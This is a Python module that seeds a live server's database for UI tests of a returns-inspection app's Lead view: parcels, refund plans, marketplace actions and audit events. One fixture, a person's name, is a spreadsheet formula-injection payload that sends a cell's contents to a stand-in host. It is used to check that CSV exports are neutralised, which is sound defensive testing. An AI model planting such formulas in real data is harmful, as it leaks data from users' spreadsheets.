"""What the Lead view's server-only tabs read, put into a live server's database: parcels on
their way (as the marketplace poller leaves its folder rows), outbound plans and their
actions (as the planner leaves them: waiting for a lead, approved with a failed refund,
done), and audit events made by real acts (a person added by the admin, a refused PIN).

The rows are written with the server's own tables on the database the server process
serves, like tests/server/test_expected_and_receipts.py does; everything the tests then do
goes through the server's HTTP API, from the real window.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, replace
from decimal import Decimal

import requests
from live_server import LiveServer
from server.builders import make_folder, make_return

from inspector_app.domain.outbound_texts import as_data, said
from inspector_app.domain.returns import Outcome
from inspector_app.marketplace.backmarket.actions import NO_TRANSFER_NOTE
from inspector_app.server import admin
from inspector_app.server.db import Database
from inspector_app.server.marketplace.outbox import put, refresh_return, release
from inspector_app.server.marketplace.planner import ApprovalPolicy
from inspector_app.server.marketplace.tables import Action, Plan
from inspector_app.server.models import MarketplaceFolder

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1)'
"""A person's name a spreadsheet would run: the audit CSV must neutralise it."""
FORMULA_MODEL = "=1+2 Phone"
"""A listing's model a spreadsheet would compute: the Expected CSV must neutralise it."""
INSPECTOR = "badge-0101"
"""Who made the verdicts the plans come from (never the lead who approves them)."""


@dataclass(frozen=True, slots=True)
class Lists:
    today: dt.date
    expected: dict[str, str]
    """Return id -> the group the server must put it in."""
    tracking: dict[str, str]
    partial: int
    """A plan waiting for approval: a partial refund of 120.00 EUR of 300.00."""
    pounds: int
    """A plan waiting for approval: a full refund of 89.90 GBP, with no customer message."""
    failed: int
    """An approved plan whose refund the marketplace refused (parked)."""
    failed_action: int
    done: int
    """A plan that needed nobody and is confirmed (listed under "all" only)."""
    refusal: int
    """A refusal waiting for approval; its "parcel received" went, its "sent back" waits."""
    sent_back: int
    """The refusal's "sent back" message, held until the decision goes."""


def _folder(n: int, arrival: str, now: dt.datetime, **fields: object) -> MarketplaceFolder:
    return make_folder(n, arrival, now, folder_id=9000 + n, carrier="Colissimo", **fields)


def _plan(n: int, now: dt.datetime, **fields: object) -> Plan:
    values: dict[str, object] = {
        "inspection_uuid": f"00000000-0000-4000-8000-{n:012d}",
        "return_id": f"RET-{n:05d}",
        "folder_id": 9000 + n,
        "outcome": "partial_refund",
        "proposed_outcome": "accept_full_refund",
        "overridden": True,
        "inspector": INSPECTOR,
        "amount": Decimal("120.00"),
        "price": Decimal("300.00"),
        "currency": "EUR",
        "approval": "waiting",
        "approval_reasons": "a partial refund; the rules' proposal was overridden",
        "decision_note": "",
        "dry_run": False,
        "notes": "",
        "created_at": now,
    }
    values.update(fields)
    return Plan(**values)


SEED_POLICY = ApprovalPolicy(
    refunds_above=Decimal("50.00"), partial_refunds=True, refusals=True, overrides=True
)
"""The approval rules the seeded plans were made under."""


def _approval(plan: Plan) -> None:
    """Why `plan` needs a lead, written as the planner writes it (each reason with its
    code), so a lead window in French reads it in French; none for a plan that needs none."""
    if plan.approval == "not_needed":
        return
    proposed = Outcome(plan.proposed_outcome) if plan.proposed_outcome else None
    reasons = SEED_POLICY.reasons(
        Outcome(plan.outcome), plan.amount, plan.currency, proposed, plan.overridden
    )
    plan.approval_reasons = "; ".join(reasons)
    plan.approval_phrases = [as_data(reason) for reason in reasons]


def _action(plan: Plan, kind: str, status: str, now: dt.datetime, **fields: object) -> Action:
    values: dict[str, object] = {
        "plan_id": plan.id,
        "return_id": plan.return_id,
        "folder_id": plan.folder_id,
        "orderline_id": plan.folder_id + 700_000,
        "kind": kind,
        "position": 0 if kind == "refund" else 1,
        "params": {"full": plan.amount == plan.price} if kind == "refund" else {"step": "decision"},
        "amount": plan.amount if kind == "refund" else None,
        "status": status,
        "reason": "",
        "marketplace_said": "",
        "attempts": 0,
        "created_at": now,
        "updated_at": now,
    }
    values.update(fields)
    return Action(**values)


def _message(plan: Plan, step: str, status: str, now: dt.datetime, **fields: object) -> Action:
    """A customer message of `plan`'s return made for a step (it belongs to no plan)."""
    params = {"text": f"Your return: {step}", "step": step, "photos": []}
    return _action(plan, "message", status, now, plan_id=None, params=params, **fields)


def seed_lists(server: LiveServer) -> Lists:
    """Seed the live server's database; returns what the tabs must show."""
    now = dt.datetime.now(dt.UTC)
    today = dt.datetime.now().astimezone().date()  # the bench's day, as the window's
    returns = [make_return(n) for n in range(1, 12)]
    returns[3] = replace(returns[3], product=replace(returns[3].product, model=FORMULA_MODEL))
    server.add_returns(returns)
    db = Database(server.config.db_url)
    try:
        with db.write() as session:
            session.add_all(
                [
                    _folder(1, "at_warehouse", now, carrier_delivered_at=now, expected_on=today),
                    _folder(
                        2,
                        "in_transit",
                        now,
                        picked_up_at=now - dt.timedelta(days=1),
                        expected_on=today + dt.timedelta(days=2),
                    ),
                    _folder(3, "overdue", now, label_issued_at=now - dt.timedelta(days=12)),
                    _folder(4, "label_issued", now),
                ]
            )
            partial = _plan(5, now)
            pounds = _plan(
                6,
                now,
                outcome="accept_full_refund",
                proposed_outcome="accept_full_refund",
                overridden=False,
                amount=Decimal("89.90"),
                price=Decimal("89.90"),
                currency="GBP",
                approval_reasons="refunds above 50.00",
            )
            failed = _plan(
                7,
                now - dt.timedelta(hours=2),
                approval="approved",
                decided_by="lead-0777",
                decided_at=now - dt.timedelta(hours=1),
            )
            done = _plan(
                8,
                now - dt.timedelta(hours=3),
                outcome="accept_full_refund",
                proposed_outcome="accept_full_refund",
                overridden=False,
                amount=Decimal("300.00"),
                approval="not_needed",
                approval_reasons="",
            )
            refusal = _plan(
                9,
                now,
                outcome="refuse_send_back",
                proposed_outcome="refuse_send_back",
                overridden=False,
                amount=None,
                approval_reasons="refusal",
            )
            for plan in (partial, pounds, failed, done, refusal):
                _approval(plan)
            session.add_all([partial, pounds, failed, done, refusal])
            session.flush()
            refused = _action(
                failed,
                "refund",
                "parked",
                now,
                attempts=1,
                marketplace_said="E008: the orderline is not in a refundable state",
            )
            put(refused, "parked", said("refused_with_status", status="400"))
            sent_back = _message(refusal, "sent_back", "planned", now)
            held = said("waits_in_order", what=said("decision_not_sent", plan=str(refusal.id)))
            put(sent_back, "planned", held)
            waiting = [
                _action(refusal, "message", "waiting", now),
                _action(refusal, "problem", "waiting", now),
                _action(partial, "refund", "waiting", now),
                _action(partial, "message", "waiting", now),
                _action(pounds, "refund", "waiting", now),
            ]
            for action in waiting:  # as the planner leaves them: the queue's own reason
                plan = next(p for p in (refusal, partial, pounds) if p.id == action.plan_id)
                put(action, *release(session, plan, action))
            session.add_all(
                [
                    _message(refusal, "received", "confirmed", now, confirmed_at=now),
                    *waiting[:2],
                    sent_back,
                    *waiting[2:],
                    refused,
                    _action(done, "refund", "confirmed", now, attempts=1, confirmed_at=now),
                ]
            )
            session.flush()
            admin.add_person(session, FORMULA_NAME, "inspector", badge="badge-0999", pin="4321")
            lists = Lists(
                today=today,
                expected={
                    "RET-00001": "today",
                    "RET-00002": "in_transit",
                    "RET-00003": "overdue",
                    "RET-00004": "label_issued",
                },
                tracking={f"RET-{n:05d}": f"1Z999AA1{n:010d}" for n in range(1, 5)},
                partial=partial.id,
                pounds=pounds.id,
                failed=failed.id,
                failed_action=refused.id,
                done=done.id,
                refusal=refusal.id,
                sent_back=sent_back.id,
            )
    finally:
        db.close()
    # a refused lead PIN at bench-1: an audit event made by the server's own sign-in route
    answer = requests.post(
        f"{server.url}/api/v1/lead/sessions",
        json={"badge": "lead-0777", "pin": "000000"},
        headers={"Authorization": f"Bearer {server.tokens['station']}"},
        timeout=30,
    )
    assert answer.status_code == 403, answer.text
    return lists


def seed_coded_plan(server: LiveServer) -> int:
    """A plan as the planner writes one, every sentence with its code: why a lead approves
    it (the server's approval policy), what it could not do, its actions' reasons (the
    queue's own release) and a refusal by the marketplace. Returns the plan's id."""
    now = dt.datetime.now(dt.UTC)
    policy = ApprovalPolicy(
        refunds_above=Decimal("100.00"), partial_refunds=True, refusals=True, overrides=True
    )
    reasons = policy.reasons(Outcome.PARTIAL_REFUND, Decimal("120.00"), "EUR", None, False)
    db = Database(server.config.db_url)
    try:
        with db.write() as session:
            plan = _plan(
                10,
                now,
                approval_reasons="; ".join(reasons),
                approval_phrases=[as_data(reason) for reason in reasons],
                notes=NO_TRANSFER_NOTE,
                note_phrases=[as_data(NO_TRANSFER_NOTE)],
            )
            session.add(plan)
            session.flush()
            refund = _action(plan, "refund", "planned", now)
            put(refund, *release(session, plan, refund))
            refused = _action(plan, "problem", "parked", now, marketplace_said="E042: bad type")
            put(refused, "parked", said("refused_with_status", status="400"))
            session.add_all([refund, refused])
            return plan.id
    finally:
        db.close()


def seed_closed_folder(server: LiveServer, return_id: str, folder_id: int) -> None:
    """Return `return_id`'s Care folder as the poller leaves one the marketplace closed (state
    9, closed yesterday) and the return's standing refreshed, so the bench's card reads the
    server's "Care folder closed on ..."."""
    now = dt.datetime.now(dt.UTC)
    db = Database(server.config.db_url)
    try:
        with db.write() as session:
            folder = make_folder(folder_id, "at_warehouse", now, return_id=return_id, state=9)
            folder.closed_at = now - dt.timedelta(days=1)
            session.add(folder)
            session.flush()
            refresh_return(session, return_id)  # as the poller does: the feed carries it
    finally:
        db.close()
